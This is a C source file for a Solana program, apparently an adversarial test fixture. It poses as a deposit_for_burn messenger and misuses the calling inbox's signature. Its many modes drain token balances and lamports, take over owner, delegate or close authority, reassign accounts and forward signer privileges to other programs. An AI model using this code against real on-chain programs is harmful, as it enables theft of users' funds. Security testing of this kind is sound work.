// SPDX-License-Identifier: Apache-2.0
/* Programs of a thief: a messenger that abuses the inbox's signature, and a proxy that calls another program.
 *
 * Called with the accounts and data of deposit_for_burn it is a messenger; the account in place of the local token says what it does. Called with
 * anything else it passes accounts, privileges and data on to the program that is the last account.
 */
#include "support.h"

enum { OWNER, PAYER, OPENER, TOKEN_ACCOUNT, DELEGATE = 6, TARGET = 5, LOCAL = 9, MINT, EVENT, CALLBACK };
enum { TOKEN = 14, SYSTEM, BURN_ACCOUNTS = 18, BURN_SIZE = 96 };
/* In the account in place of the local token: what it does, and how many of the 18 known accounts stand behind the further ones. */
enum { MODE_OFFSET = 80, BEHIND_OFFSET, MODE_SIZE_MIN };
enum {
    MODE_TRANSFER,      /* sends the balance to TARGET */
    MODE_CALL_BACK,     /* calls the program CALLBACK */
    MODE_IDLE,          /* burns nothing */
    MODE_OWNER,         /* burns, then makes TARGET the owner */
    MODE_DELEGATE,      /* burns, then makes TARGET the delegate */
    MODE_CLOSER,        /* burns, then makes TARGET the close authority */
    MODE_LESS,          /* burns all but one unit */
    MODE_LAMPORTS,      /* burns, then transfers the inbox's lamports */
    MODE_OTHER_ACCOUNT, /* burns, then makes itself the delegate of TARGET, another token account of the inbox */
    MODE_OPEN,          /* burns, then creates TARGET as the inbox's associated token account, and makes DELEGATE its delegate */
    MODE_OPEN_EVENT,    /* burns, then creates EVENT as a token account of the inbox, and makes DELEGATE its delegate */
    MODE_REOPEN,        /* burns, then closes the token account to TARGET, and creates it again */
    MODE_SPEND,         /* burns, then transfers the lamports of TARGET as if it had signed */
    MODE_TRANSFER_OTHER, /* burns, then transfers a unit of TARGET, another token account of the inbox, to the token account */
    MODE_CLOSE_OTHER,   /* burns, then closes TARGET, another token account of the inbox */
    MODE_WRITE,         /* burns, then writes into TARGET, an account of this program */
    MODE_ASSIGN,        /* burns, then makes the inbox an account of this program */
    MODE_HONEST,        /* burns */
    MODE_LOCAL_TAKE,    /* makes LOCAL a token account of PAYER and sends the balance there */
    MODE_LOCAL_OPEN,    /* burns, then makes LOCAL a token account of the inbox, and makes PAYER its delegate */
    MODE_MEMO,          /* burns, then makes the token account require a memo of each transfer */
    MODE_MEMO_ROOM      /* burns, then gives the token account room for that */
};
enum { TRANSFER = 3, APPROVE = 4, SET_AUTHORITY = 6, BURN = 8, CLOSE = 9, INITIALIZE = 18, ROLE_OWNER = 2, ROLE_CLOSER = 3 };
/* Instructions and an extension of Token-2022. */
enum { REALLOCATE = 29, MEMO_TRANSFER = 30, EXTENSION_MEMO = 8 };
enum { SYSTEM_CREATE = 0, SYSTEM_ASSIGN = 1, SYSTEM_TRANSFER = 2, TOKEN_ACCOUNT_SIZE = 165 };

/* The first further account, if there is one. */
INLINE const Account *targetOf(const Call *call) {
    return &call->accounts[call->accountCount > BURN_ACCOUNTS ? BURN_ACCOUNTS : TARGET];
}

FUNCTION u64 invoke(const Call *call, const Key *program, const Meta *metas, u64 metaCount, const Slice *data) {
    Instruction instruction = { program, metas, metaCount, data->at, data->size };
    return sol_invoke_signed_c(&instruction, call->accounts, call->accountCount, 0, 0);
}

FUNCTION u64 forward(const Call *call) {
    const Account *a = call->accounts;
    u64 count = call->accountCount - 1;
    Meta metas[ACCOUNTS_MAX];
    for (u64 i = 0; i < count; i++) setMeta(&metas[i], &a[i], (u64)a[i].isWritable | (u64)a[i].isSigner << 8);
    Slice data;
    setSlice(&data, call->data, call->dataSize);
    return invoke(call, a[count].key, metas, count, &data);
}

/* Transfer or Burn by the inbox's signature. */
FUNCTION u64 moveTokens(const Call *call, u8 tag, u64 less) {
    const Account *a = call->accounts, *to = isSameKey(a[LOCAL].owner, a[TOKEN].key) ? &a[LOCAL] : targetOf(call);
    Meta metas[3];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], tag == BURN ? &a[MINT] : to, WRITE);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data[9];
    data[0] = tag;
    writeInteger(data + 1, readWord(a[TOKEN_ACCOUNT].data + 64) - less, 8);
    Slice slice;
    setSlice(&slice, data, 9);
    return invoke(call, a[less == 0 && tag == 0 ? CALLBACK : TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 setAuthority(const Call *call, u8 role) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], &a[OWNER], SIGN);
    u8 data[35];
    data[0] = SET_AUTHORITY;
    data[1] = role;
    data[2] = 1;
    copyBytes(data + 3, targetOf(call)->key, 32);
    Slice slice;
    setSlice(&slice, data, 35);
    return invoke(call, a[TOKEN].key, metas, 2, &slice);
}

FUNCTION u64 approve(const Call *call, const Account *account, const Account *delegate) {
    const Account *a = call->accounts;
    Meta metas[3];
    setMeta(&metas[0], account, WRITE);
    setMeta(&metas[1], delegate, READ);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data[9];
    data[0] = APPROVE;
    writeInteger(data + 1, ~0ul, 8);
    Slice slice;
    setSlice(&slice, data, 9);
    return invoke(call, a[TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 takeLamports(const Call *call, const Account *from) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], from, WRITE | SIGN);
    setMeta(&metas[1], &a[MINT], WRITE);
    u8 data[12];
    writeInteger(data, SYSTEM_TRANSFER, 4);
    writeInteger(data + 4, *from->lamports, 8);
    Slice slice;
    setSlice(&slice, data, 12);
    return invoke(call, a[SYSTEM].key, metas, 2, &slice);
}

/* By the associated token program. */
FUNCTION u64 openAssociated(const Call *call, const Account *account) {
    const Account *a = call->accounts;
    Meta metas[6];
    setMeta(&metas[0], &a[PAYER], WRITE | SIGN);
    setMeta(&metas[1], account, WRITE);
    setMeta(&metas[2], &a[OWNER], READ);
    setMeta(&metas[3], &a[MINT], READ);
    setMeta(&metas[4], &a[SYSTEM], READ);
    setMeta(&metas[5], &a[TOKEN], READ);
    u8 data = 0;
    Slice slice;
    setSlice(&slice, &data, 1);
    return invoke(call, a[OPENER].key, metas, 6, &slice);
}

FUNCTION u64 openEvent(const Call *call) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], &a[PAYER], WRITE | SIGN);
    setMeta(&metas[1], &a[EVENT], WRITE | SIGN);
    u8 data[52];
    writeInteger(data, SYSTEM_CREATE, 4);
    writeInteger(data + 4, rentOf(TOKEN_ACCOUNT_SIZE), 8);
    writeInteger(data + 12, TOKEN_ACCOUNT_SIZE, 8);
    copyBytes(data + 20, a[TOKEN].key, 32);
    Slice slice;
    setSlice(&slice, data, 52);
    u64 failure = invoke(call, a[SYSTEM].key, metas, 2, &slice);
    if (failure) return failure;
    setMeta(&metas[0], &a[EVENT], WRITE);
    setMeta(&metas[1], &a[MINT], READ);
    data[0] = INITIALIZE;
    copyBytes(data + 1, a[OWNER].key, 32);
    setSlice(&slice, data, 33);
    return invoke(call, a[TOKEN].key, metas, 2, &slice);
}

FUNCTION u64 closeTo(const Call *call, const Account *account, const Account *to) {
    const Account *a = call->accounts;
    Meta metas[3];
    setMeta(&metas[0], account, WRITE);
    setMeta(&metas[1], to, WRITE);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data = CLOSE;
    Slice slice;
    setSlice(&slice, &data, 1);
    return invoke(call, a[TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 transferUnit(const Call *call, const Account *from) {
    const Account *a = call->accounts;
    Meta metas[3];
    setMeta(&metas[0], from, WRITE);
    setMeta(&metas[1], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data[9];
    data[0] = TRANSFER;
    writeInteger(data + 1, 1, 8);
    Slice slice;
    setSlice(&slice, data, 9);
    return invoke(call, a[TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 assignInbox(const Call *call) {
    const Account *a = call->accounts;
    Meta meta;
    setMeta(&meta, &a[OWNER], WRITE | SIGN);
    u8 data[36];
    writeInteger(data, SYSTEM_ASSIGN, 4);
    copyBytes(data + 4, call->self, 32);
    Slice slice;
    setSlice(&slice, data, 36);
    return invoke(call, a[SYSTEM].key, &meta, 1, &slice);
}

/* LOCAL belongs to this program, which may give it away once it is empty. */
FUNCTION u64 openLocal(const Call *call, const Account *owner) {
    const Account *a = call->accounts, *local = &a[LOCAL];
    for (u64 i = 0; i < TOKEN_ACCOUNT_SIZE; i++) *(volatile u8 *)(local->data + i) = 0;
    copyBytes((u8 *)local->owner, a[TOKEN].key, 32);
    Meta metas[2];
    setMeta(&metas[0], local, WRITE);
    setMeta(&metas[1], &a[MINT], READ);
    u8 data[33];
    data[0] = INITIALIZE;
    copyBytes(data + 1, owner->key, 32);
    Slice slice;
    setSlice(&slice, data, 33);
    return invoke(call, a[TOKEN].key, metas, 2, &slice);
}

FUNCTION u64 makeRoomForMemo(const Call *call) {
    const Account *a = call->accounts;
    Meta metas[4];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], &a[PAYER], WRITE | SIGN);
    setMeta(&metas[2], &a[SYSTEM], READ);
    setMeta(&metas[3], &a[OWNER], SIGN);
    u8 data[3];
    data[0] = REALLOCATE;
    writeInteger(data + 1, EXTENSION_MEMO, 2);
    Slice slice;
    setSlice(&slice, data, 3);
    return invoke(call, a[TOKEN].key, metas, 4, &slice);
}

FUNCTION u64 requireMemo(const Call *call) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], &a[OWNER], SIGN);
    u8 data[2];
    data[0] = MEMO_TRANSFER;
    data[1] = 0;
    Slice slice;
    setSlice(&slice, data, 2);
    return invoke(call, a[TOKEN].key, metas, 2, &slice);
}

/* What it does after the burn. */
FUNCTION u64 abuse(const Call *call, u8 mode) {
    const Account *a = call->accounts, *target = targetOf(call);
    u64 failure = 0;
    if (mode == MODE_OWNER) return setAuthority(call, ROLE_OWNER);
    if (mode == MODE_CLOSER) return setAuthority(call, ROLE_CLOSER);
    if (mode == MODE_DELEGATE) return approve(call, &a[TOKEN_ACCOUNT], target);
    if (mode == MODE_OTHER_ACCOUNT) return approve(call, target, &a[MINT]);
    if (mode == MODE_SPEND) return takeLamports(call, target);
    if (mode == MODE_TRANSFER_OTHER) return transferUnit(call, target);
    if (mode == MODE_CLOSE_OTHER) return closeTo(call, target, &a[PAYER]);
    if (mode == MODE_ASSIGN) return assignInbox(call);
    if (mode == MODE_MEMO_ROOM) return makeRoomForMemo(call);
    if (mode == MODE_MEMO) {
        failure = makeRoomForMemo(call);
        return failure ? failure : requireMemo(call);
    }
    if (mode == MODE_LOCAL_OPEN) {
        failure = openLocal(call, &a[OWNER]);
        return failure ? failure : approve(call, &a[LOCAL], &a[PAYER]);
    }
    if (mode == MODE_OPEN) {
        failure = openAssociated(call, target);
        return failure ? failure : approve(call, target, &a[DELEGATE]);
    }
    if (mode == MODE_OPEN_EVENT) {
        failure = openEvent(call);
        return failure ? failure : approve(call, &a[EVENT], &a[DELEGATE]);
    }
    if (mode == MODE_REOPEN) {
        failure = closeTo(call, &a[TOKEN_ACCOUNT], target);
        return failure ? failure : openAssociated(call, &a[TOKEN_ACCOUNT]);
    }
    if (mode == MODE_WRITE) {
        *(volatile u8 *)target->data = 1;
        return 0;
    }
    return mode == MODE_HONEST ? 0 : takeLamports(call, &a[OWNER]);
}

/* The account of this program that says what to do. */
FUNCTION const u8 *findOrder(const Call *call) {
    for (u64 i = call->accountCount; i > 0; i--) {
        const Account *account = &call->accounts[i - 1];
        if (isSameKey(account->owner, call->self) && account->size > MODE_SIZE_MIN) return account->data;
    }
    return 0;
}

/* Puts the further accounts behind the known ones. */
FUNCTION void putLast(Call *call, u64 behind) {
    u64 more = call->accountCount - BURN_ACCOUNTS, first = BURN_ACCOUNTS - behind;
    Account further[8];
    for (u64 i = 0; i < more; i++) further[i] = call->accounts[first + i];
    for (u64 i = first; i < BURN_ACCOUNTS; i++) call->accounts[i] = call->accounts[i + more];
    for (u64 i = 0; i < more; i++) call->accounts[BURN_ACCOUNTS + i] = further[i];
}

FUNCTION u64 actAsMessenger(Call *call) {
    const u8 *order = findOrder(call);
    if (!order) return 1;
    if (call->accountCount > BURN_ACCOUNTS) putLast(call, order[BEHIND_OFFSET]);
    u8 mode = order[MODE_OFFSET];
    if (mode == MODE_TRANSFER) return moveTokens(call, TRANSFER, 0);
    if (mode == MODE_CALL_BACK) return moveTokens(call, 0, 0);
    if (mode == MODE_IDLE) return 0;
    if (mode == MODE_LOCAL_TAKE) {
        u64 failure = openLocal(call, &call->accounts[PAYER]);
        return failure ? failure : moveTokens(call, TRANSFER, 0);
    }
    u64 failure = moveTokens(call, BURN, mode == MODE_LESS);
    return failure || mode == MODE_LESS ? failure : abuse(call, mode);
}

u64 entrypoint(u8 *input) {
    Call call;
    if (!readInput(input, &call) || call.accountCount == 0) return 1;
    return call.dataSize == BURN_SIZE && call.accountCount >= BURN_ACCOUNTS ? actAsMessenger(&call) : forward(&call);
}
